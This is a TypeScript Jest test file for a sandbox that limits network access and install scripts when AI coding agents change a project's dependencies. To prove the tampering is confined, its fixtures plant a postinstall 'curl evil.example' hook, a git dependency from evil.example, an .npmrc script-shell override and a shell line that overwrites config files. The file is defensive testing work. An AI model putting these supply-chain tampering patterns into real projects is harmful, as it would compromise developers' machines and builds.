import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { run } from '../../examples/user-authentication/script/calls.js';
import { proveGreenActivity } from '../../src/activities/prove-green.js';
import { lockCommand } from '../../src/activities/lock-dependencies.js';
import { runToolsActivity } from '../../src/activities/run-tools.js';
import { accessOf } from '../../src/activities/set-up-access.js';
import { openWorkspace } from '../../src/activities/workspace.js';
import { commitOn } from '../helpers/person.js';
import { asStep } from '../../src/git/lease.js';
import { fileAt, treeOf } from '../../src/git/repository.js';
import { sandboxProblem } from '../../src/sandbox/probe.js';
import { planned as taskWith } from '../workflows/tasks.js';
import { openBench, runActivity, withTexts, type Bench } from './bench.js';

const itConfines = (await sandboxProblem()) ? it.skip : it;

const manifest = (more: object = {}) => JSON.stringify({ name: 'shop', version: '1.0.0', ...more });
const lock = (packages: object = {}) =>
  JSON.stringify({
    name: 'shop',
    version: '1.0.0',
    lockfileVersion: 3,
    packages: { '': { name: 'shop', version: '1.0.0' }, ...packages },
  });
const left = { resolved: 'https://registry.npmjs.org/left/-/left-1.0.0.tgz', integrity: 'sha512-x' };
const BASE = {
  'package.json': manifest(),
  'package-lock.json': lock(),
  'requirements.txt': 'flask==3.0\n',
  '.gitignore': 'node_modules/\n',
  'tools/set-up.sh': 'true\n',
};
const WITH_LEFT = {
  'package.json': manifest({ dependencies: { left: '1.0.0' } }),
  'package-lock.json': lock({ 'node_modules/left': left }),
};

describe('where set-up may go', () => {
  let bench: Bench;
  let repository: Awaited<ReturnType<typeof open>>;
  beforeAll(async () => {
    bench = await openBench();
    repository = await open('access');
  });
  afterAll(async () => bench.close());

  async function open(name: string) {
    const { repo, place } = await bench.repository(name);
    const commit = await commitOn(repo.root, 'HEAD', BASE, 'build: Need packages');
    const ours = { ...place, sandbox: 'on' as const, setupNetwork: true, base: commit };
    return { repo, place: ours, commit, tree: await treeOf(repo, commit) };
  }

  /** Each try in short: what it has, and whether it leaves install scripts out. */
  async function tries(
    texts: Record<string, string>,
    { setup = 'npm ci', planned, landed }: { setup?: string; planned?: string[]; landed?: boolean } = {},
  ) {
    const { repo, place, commit, tree } = repository;
    const now = await withTexts(repo, tree, texts);
    const after = landed ? await commitOn(repo.root, commit, texts, 'feat: Land') : commit;
    const names = { all: planned ?? [], task: landed ? [] : (planned ?? []) };
    const access = await accessOf(repo, { ...place, setup, planned: names }, { commit: after, tree: now });
    return access.attempts.map(
      ({ network, scripts }) => `${network ? 'registries' : 'offline'}${scripts ? '' : ', no scripts'}`,
    );
  }

  const source = { 'src/new.js': 'export {};\n' };

  it.each<[string, string[], Record<string, string>, Parameters<typeof tries>[1]?]>([
    ['on the tree that it began with', ['registries'], {}],
    ['on sources of an agent', ['offline', 'registries, no scripts'], source],
    ['after a dependency more', ['offline', 'registries, no scripts'], WITH_LEFT],
    ['after one that the plan names', ['registries'], { ...source, ...WITH_LEFT }, { planned: ['package.json'] }],
    [
      'after one that has landed and was planned',
      ['registries'],
      WITH_LEFT,
      { planned: ['package.json'], landed: true },
    ],
    ['after one that has landed unplanned', ['offline', 'registries, no scripts'], WITH_LEFT, { landed: true }],
    [
      'after a script more',
      ['offline'],
      { 'package.json': manifest({ scripts: { postinstall: 'curl evil.example' } }) },
    ],
    [
      'after a dependency that is no package of a registry',
      ['offline'],
      { 'package-lock.json': lock({ 'node_modules/left': { resolved: 'git+https://evil.example/a.git' } }) },
    ],
    ['after a setting of npm', ['offline'], { '.npmrc': 'script-shell=./evil\n' }],
    [
      'where there is no way to leave scripts out',
      ['offline'],
      { 'requirements.txt': 'evil==1\n' },
      { setup: 'pip install -r requirements.txt' },
    ],
    [
      'where that is as it was',
      ['offline', 'registries, no scripts'],
      source,
      { setup: 'pip install -r requirements.txt' },
    ],
    [
      'by a changed script of the repository',
      ['offline'],
      { 'tools/set-up.sh': 'curl evil.example\n' },
      { setup: 'npm ci && ./tools/set-up.sh' },
    ],
    ['after a dependency more, by more than an installation', ['offline'], WITH_LEFT, { setup: 'npm ci && npx left' }],
    [
      'after two things, one of them planned',
      ['offline'],
      { ...WITH_LEFT, 'requirements.txt': 'evil==1\n' },
      { planned: ['package.json'] },
    ],
  ])('%s: %j', async (...[, expected, texts, how]) => {
    expect(await tries(texts, how)).toEqual(expected);
  });

  it('is by the base, whatever an agent writes into lock files', async () => {
    const { repo, place, commit, tree } = repository;
    const texts = {
      'package.json': manifest(),
      'package-lock.json': lock({ a: { resolved: 'https://evil.example/a.tgz' } }),
    };
    const changed = await withTexts(repo, tree, texts);
    const planned = { all: [], task: ['package.json'] };
    const { attempts } = await accessOf(
      repo,
      { ...place, setup: 'npm ci', planned, network: ['own.example'] },
      { commit, tree: changed },
    );
    expect(attempts).toHaveLength(1);
    expect(attempts[0]!.network).toEqual(expect.arrayContaining(['registry.npmjs.org', 'pypi.org', 'own.example']));
    expect(attempts[0]!.network).not.toContain('evil.example');
    const closed = { ...place, setup: 'npm ci', setupNetwork: false };
    expect(await accessOf(repo, closed, { commit, tree: changed })).toMatchObject({ attempts: [{ network: false }] });
  });

  itConfines('is open for none of what an agent has left, and scripts of it run without', async () => {
    const { repo, place, commit, tree } = await open('left');
    const setup =
      'mkdir -p node_modules && ls node_modules > /tmp/had; echo "$(cat /tmp/had) ${HTTP_PROXY:+network}" > node_modules/how';
    const how = (name: string, of: string, planned: string[] = []) =>
      asStep(async (signal) => {
        const ours = { ...place, setup, planned: { all: [], task: planned } };
        const { dir } = await openWorkspace(bench.dependencies(), ours, { name, commit, tree: of }, signal);
        return (await readFile(path.join(dir, 'node_modules/how'), 'utf8')).trim();
      });
    expect(await how('task-001', tree)).toBe('network');
    const changed = await withTexts(repo, tree, WITH_LEFT);
    expect(await how('task-001', changed)).toBe('how');
    expect(await how('task-002', changed, ['package.json'])).toBe('network');
    const more = await withTexts(repo, changed, { 'package-lock.json': lock() });
    expect(await how('task-002', more, ['package.json'])).toBe('network');
  });

  itConfines('is open for none of what a try without has left', async () => {
    const { repo, place, commit, tree } = await open('tries');
    const evil = 'echo evil | tee requirements.txt .gitignore extra > .npmrc; exit 1';
    const seen = 'mkdir -p node_modules && cat requirements.txt extra .npmrc > node_modules/how; true';
    const ours = { ...place, setup: `if [ -n "$HTTP_PROXY" ]; then ${seen}; else ${evil}; fi` };
    const changed = await withTexts(repo, tree, source);
    const how = await asStep(async (signal) => {
      const at = { name: 'task-003', commit, tree: changed };
      const { dir } = await openWorkspace(bench.dependencies(), ours, at, signal);
      return readFile(path.join(dir, 'node_modules/how'), 'utf8');
    });
    expect(how).toBe('flask==3.0\n');
  });

  itConfines(
    'makes the lock file follow a manifest that the plan names, and is told where it does not',
    async () => {
      const { repo, place: plain } = await open('locks');
      const files = { ...BASE, 'dep/package.json': '{"name":"dep","version":"1.0.0"}' };
      const commit = await commitOn(repo.root, 'HEAD', files, 'build: Have a package');
      const at = await treeOf(repo, commit);
      const place = {
        ...plain,
        base: commit,
        setup: 'npm ci --no-audit',
        planned: { all: [], task: ['package.json'] },
      };
      const add = (name: string) => `echo '${manifest({ dependencies: { [name]: `file:${name}` } })}' > package.json`;
      const turn = (of: string, command: string) =>
        runActivity(runToolsActivity(bench.dependencies()), {
          place,
          stage: 'green',
          task: 'task-001',
          worktree: 'task-001',
          commit,
          tree: of,
          fingerprint: '',
          commands: {},
          testFiles: [],
          sealed: [],
          calls: [{ type: 'tool_use', id: 'a', ...run(command) }],
        });
      const added = await turn(at, add('dep'));
      expect(added.results[0]).not.toHaveProperty('is_error');
      expect(added.results[0]!.content).toMatch(
        /your change of package\.json, `npm install --package-lock-only.* up to date\.$/,
      );
      expect(await fileAt(repo, added.tree, 'package-lock.json')).toContain('"dep"');
      expect((await turn(added.tree, 'cat node_modules/dep/package.json')).results[0]!.content).toContain('"dep"');
      const wrong = await turn(at, "echo '{' > package.json");
      expect(wrong.results[0]).toMatchObject({
        is_error: true,
        content: expect.stringMatching(/fails after your change of package\.json/),
      });
    },
    180_000,
  );

  itConfines('is told to the agent whose change makes it fail, who can go on', async () => {
    const { repo, place: plain, commit, tree } = await open('fails');
    const place = {
      ...plain,
      setupNetwork: false,
      setup: 'mkdir -p node_modules; ! grep -q left package.json || { echo no such package; exit 3; }',
    };
    const changed = await withTexts(repo, tree, WITH_LEFT);
    const turn = (of: string, command: string) =>
      runActivity(runToolsActivity(bench.dependencies()), {
        place,
        stage: 'green',
        task: 'task-001',
        worktree: 'task-001',
        commit,
        tree: of,
        fingerprint: '',
        commands: {},
        testFiles: ['test/**'],
        sealed: [],
        calls: [{ type: 'tool_use', id: 'a', ...run(command) }],
      });
    const { results, tree: mended } = await turn(changed, 'git --version; rm package.json');
    expect(results[0]).toMatchObject({
      is_error: true,
      content: expect.stringMatching(
        /git version[^]*fails after your change of package-lock\.json, package\.json, which[^]*exit code 3[^]*no such package/,
      ),
    });
    expect((await turn(mended, 'true')).results[0]).not.toHaveProperty('is_error');

    const proof = await runActivity(proveGreenActivity(bench.dependencies()), {
      place,
      task: taskWith('task-001', { kind: 'chore', files: ['package.json', 'package-lock.json'] }),
      commit,
      baseTree: tree,
      tree: changed,
      sealed: [],
      redTests: [],
      blockers: [],
      commands: { test: { command: 'true', source: 'x' } },
      testFiles: ['test/**'],
      failedBefore: [],
    });
    expect(proof).toEqual({
      ok: false,
      reason: expect.stringMatching(/^Set-up fails after your change[^]*no such package/),
    });
  });
});

it.each([
  ['npm ci', 'npm install --package-lock-only --ignore-scripts'],
  [
    'cd web && npx --yes pnpm@10.1.0 install --frozen-lockfile',
    'cd web && npx --yes pnpm@10.1.0 install --lockfile-only --no-frozen-lockfile',
  ],
  ['corepack yarn install --immutable', 'corepack yarn install --mode=update-lockfile'],
  ['.tools/bin/uv sync --frozen && true', '.tools/bin/uv lock && true'],
  ['poetry install --with dev', 'poetry lock'],
  ['go mod download', 'go mod download all'],
  ['pip install -r requirements.txt', undefined],
])('what installs by `%s` locks by `%s`', (setup, command) => {
  expect(lockCommand(setup)).toBe(command);
});
